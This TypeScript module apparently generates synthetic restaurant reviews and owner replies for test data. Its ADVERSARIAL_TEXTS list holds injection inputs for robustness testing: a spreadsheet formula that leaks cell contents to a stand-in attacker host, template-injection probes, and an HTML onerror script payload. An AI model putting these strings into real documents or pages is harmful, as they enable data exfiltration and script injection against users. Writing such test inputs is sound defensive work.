import type { Random } from '../random.ts';

const FOOD: Record<number, string[]> = {
  1: ['Cold when it came, and not what I had chosen.', 'I could not finish it.', 'Much too salty.'],
  2: ['Rather bland.', 'Smaller than in the picture.', 'It tasted of yesterday.'],
  3: ['Decent, nothing more.', 'Good, though I have had better here.', 'All right for the price.'],
  4: ['Fresh and well spiced.', 'Very good, a bit more sauce and it would be perfect.', 'Just as one hopes.'],
  5: ['The best in the whole bay.', 'Hot, generous, wonderful.', 'We fought over the last bite.'],
};
const REST: Record<number, string[]> = {
  1: ['Never again.', 'Somebody should look into this.'],
  2: ['Perhaps they had a bad evening.', 'Not in a hurry to come back.'],
  3: ['Might try something else next time.', 'Fine on a lazy day.'],
  4: ['Will order again.', 'The bread alone is worth it.'],
  5: ['Thank you!', 'Our Friday is settled.', 'Compliments to the kitchen.'],
};
const FRENCH: Record<number, string[]> = {
  1: ['Froid à l’arrivée, dommage.'],
  2: ['Portion bien maigre.'],
  3: ['Correct, sans plus.'],
  4: ['Très bon, livré encore tiède.'],
  5: ['Un délice, comme chez ma grand-mère !'],
};
export const REPLIES = [
  'Thank you, we have told the kitchen.',
  'We are sorry, that is not how it should be. Please write to us.',
  'So glad you liked it. See you soon!',
];
export const HIDDEN_REASONS = ['Names a courier', 'Insulting', 'About another restaurant'];

/** Words that break what shows, exports or renders them without care. */
export const ADVERSARIAL_TEXTS = [
  '🌶️🔥😭 would burn again 👩🏽‍🍳',
  'الطعام لذيذ جدا، شكرا لكم',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Free dessert")',
  'Price was {{7*7}} and <%= 7 * 7 %> and ${7*7}',
  'First line\u2028second line\u2029third line',
  '<img src=x onerror=alert(1)> & "quotes" and \u2019 apostrophes',
];

export function reviewText(stars: number, isFrench: boolean, random: Random): string | null {
  if (random.chance(0.3)) return null;
  if (isFrench) return random.pick(FRENCH[stars] ?? ['']);
  const first = random.pick(FOOD[stars] ?? ['']);
  return random.chance(0.6) ? `${first} ${random.pick(REST[stars] ?? [''])}` : first;
}
